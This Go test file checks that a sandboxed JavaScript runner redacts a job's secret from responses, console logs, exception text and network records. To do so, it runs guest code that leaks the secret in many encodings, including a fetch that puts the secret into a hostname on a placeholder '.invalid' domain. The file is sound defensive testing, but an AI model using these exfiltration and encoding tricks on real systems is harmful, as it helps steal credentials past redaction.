package workerd

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/nacre-tee/nacre/jobs"
)

// TestSecretDoesNotLeaveTheSandbox: real code that prints, answers, throws and
// asks a host with its secret.
func TestSecretDoesNotLeaveTheSandbox(t *testing.T) {
	p := newPool(t, nil)
	secret := []byte("correct-horse-battery")
	show := `const s = new TextDecoder().decode(env.secret), h = [...new Uint8Array(env.secret)].map((b) => b.toString(16).padStart(2, "0")).join("");
		console.log("key", s, h, btoa("x" + s + "y"));
		try { await fetch("http://" + s + ".invalid/") } catch {}
	`
	for name, c := range map[string]struct {
		end     string
		outcome jobs.Outcome
	}{
		"answered": {`return new Response(s + "," + h + "," + btoa(s))`, jobs.OK},
		"thrown":   {`throw new Error("no use for " + s)`, jobs.Exception},
	} {
		r, err := p.Run(t.Context(), jobs.Task{Code: handler(show + c.end), Secret: secret, Deadline: 20 * time.Second})
		if err != nil || r.Outcome != c.outcome {
			t.Fatalf("%s: %v %v %s", name, err, r.Outcome, r.Detail)
		}
		all := fmt.Sprintf("%s %s %s %+v", r.Output, r.Detail, r.Logs, r.Network)
		for _, form := range formsOf(secret) {
			if bytes.Contains([]byte(all), form) {
				t.Errorf("%s: %q is in %s", name, form, all)
			}
		}
		if !strings.Contains(all, redacted) || bytes.Count(r.Logs, []byte(redacted)) != 3 || len(r.Network) != 1 {
			t.Errorf("%s: %s", name, all)
		}
	}
}

// accidents are what owners leave in their code. Each prints the secret, or its
// first 100 bytes or items, which is what the console shows of a longer one.
var accidents = []string{
	`env`, `env.secret`, `u`, `{u}`, `new DataView(env.secret)`, `[...u]`, `new Int8Array(env.secret)`, `{a: {b: u}}`, `{...u}`, `new Map(Object.entries(u))`,
	`String(u)`, `Array.from(u).join(" ")`, `JSON.stringify(u)`, `JSON.stringify([...u])`, `JSON.stringify([...u], null, 2)`, `JSON.stringify({...u})`, `JSON.stringify(JSON.stringify(u))`,
	`s`, `{s}`, `[s]`, `{a: {b: {s}}}`, `new Map([["s", s]])`, `{[s]: 1}`, `Symbol(s)`, `"%o", {s}`, `"%j", {s}`, `[...s]`,
	`JSON.stringify({s})`, `JSON.stringify({s}, null, 2)`, `JSON.stringify({a: JSON.stringify({s})})`,
	`new Error(s)`, `new Error(JSON.stringify({s}))`, `new Headers({a: "Basic " + btoa("me:" + s)})`, `btoa(s)`, `u.toBase64({alphabet: "base64url"})`, `encodeURIComponent(btoa(s))`,
	`u.toHex()`, `[...u].map(b => b.toString(16)).join(":")`, `[...u].map(b => "0x" + b.toString(16))`,
	`encodeURIComponent(s)`, `encodeURI(s)`, `escape(s)`, `new URLSearchParams({s})`, `new URLSearchParams({s}).toString()`, `new URL("https://a.example/?k=" + encodeURIComponent(s))`,
}

// TestConsoleOfSecret prints a secret in each way, in one job.
func TestConsoleOfSecret(t *testing.T) {
	p := newPool(t, nil)
	pem := "-----BEGIN K-----\nABCDEFGHIJKLMNOPQRSTUVWXYZ+/abcdefghijklmnop\nqrstuvwxyz0123456789\\\"' it's\t<&>\n-----END K-----\n"
	for name, secret := range map[string]string{
		"token": "sk-live-51Nq~x.Y_z/+?=& \"q\"", "lines": pem, "long": strings.Repeat(pem, 3),
	} {
		code := `const u = new Uint8Array(env.secret), s = new TextDecoder().decode(u); let i = 0;` + "\n"
		for _, a := range accidents {
			code += "console.log('#' + i++ + '#'); console.log(" + a + ");\n"
		}
		r, err := p.Run(t.Context(), jobs.Task{Code: handler(code + `return new Response("done")`), Secret: []byte(secret), Deadline: 20 * time.Second})
		if err != nil || string(r.Output) != "done" {
			t.Fatalf("%s: %v %s %s", name, err, r.Outcome, r.Detail)
		}
		shown := regexp.MustCompile(`(?m)^#\d+#$`).Split(string(r.Logs), -1)[1:]
		if len(shown) != len(accidents) {
			t.Fatalf("%s: %d of %d: %s", name, len(shown), len(accidents), r.Logs)
		}
		for i, got := range shown {
			if !strings.Contains(got, redacted) || leaks(got, strings.TrimSpace(secret)) {
				t.Errorf("%s, %s: %s", name, accidents[i], got)
			}
		}
	}
}

// leaks tells, in another way than the redactor, whether 8 bytes of the secret
// one after another are in text: as letters, or as numbers.
func leaks(text, secret string) bool {
	bare := regexp.MustCompile(`[^A-Za-z0-9]`)
	letters, key := bare.ReplaceAllString(text, ""), bare.ReplaceAllString(secret, "")
	for i := range len(key) - 8 {
		if strings.Contains(letters, key[i:i+8]) {
			return true
		}
	}
	for i := range len(secret) - 8 {
		for _, form := range []string{listed(secret[i:i+8], "%d", "|"), listed(secret[i:i+8], "%02x", "|"), listed(secret[i:i+8], "%02x", "")} {
			if strings.Contains(regexp.MustCompile(`[^0-9a-f]+`).ReplaceAllString(text, "|"), form) {
				return true
			}
		}
	}
	return false
}

// TestThrownSecret: the words of an exception are cut off after 300 characters,
// and then made one line.
func TestThrownSecret(t *testing.T) {
	p := newPool(t, nil)
	secret := "-----BEGIN K-----\nABCDEFGHIJKLMNOPQRSTUVWXYZ+/abcdefghijklmnop\n\nqrst  uvwxyz0123456789\u200b-----END K-----\n"
	for _, thrown := range []string{`s`, `JSON.stringify({s})`, `"x".repeat(200) + s`, `"x".repeat(200) + JSON.stringify(s)`, `env.secret`, `[...new Uint8Array(env.secret)]`, `"é".repeat(100) + s`} {
		for _, when := range []string{`throw new Error(%s)`, `throw %s`} {
			code := `const s = new TextDecoder().decode(env.secret); ` + fmt.Sprintf(when, thrown)
			r, err := p.Run(t.Context(), jobs.Task{Code: handler(code), Secret: []byte(secret), Deadline: 20 * time.Second})
			if err != nil || r.Outcome != jobs.Exception {
				t.Fatalf("%s: %v %v %s", code, err, r.Outcome, r.Detail)
			}
			if leaks(r.Detail, strings.TrimSpace(secret)) || thrown != `env.secret` && !strings.Contains(r.Detail, redacted) {
				t.Errorf("%s: %s", code, r.Detail)
			}
			shortLine(t, r.Detail)
		}
	}
}

// TestFloodOfSecrets: what the log lost begins and ends anywhere.
func TestFloodOfSecrets(t *testing.T) {
	p := newPool(t, nil)
	secret := "0123456789-correct-horse\nbattery~staple~qwertyuiop"
	for _, printed := range []string{"env", "s", "JSON.stringify({s})", "new Uint8Array(env.secret)", "s.repeat(100)", "new Uint8Array(env.secret).toHex().repeat(30)"} {
		code := `const s = new TextDecoder().decode(env.secret); for (let i = 0; i < 1500; i++) console.log(` + printed + `); return new Response()`
		r, err := p.Run(t.Context(), jobs.Task{Code: handler(code), Secret: []byte(secret), Deadline: 20 * time.Second})
		if err != nil || r.Outcome != jobs.OK || !bytes.HasPrefix(r.Logs, []byte(lostLine)) {
			t.Fatalf("%s: %v %v %s %.99s", code, err, r.Outcome, r.Detail, r.Logs)
		}
		if leaks(string(r.Logs), secret) {
			t.Errorf("%s: %.999s", printed, r.Logs)
		}
	}
}
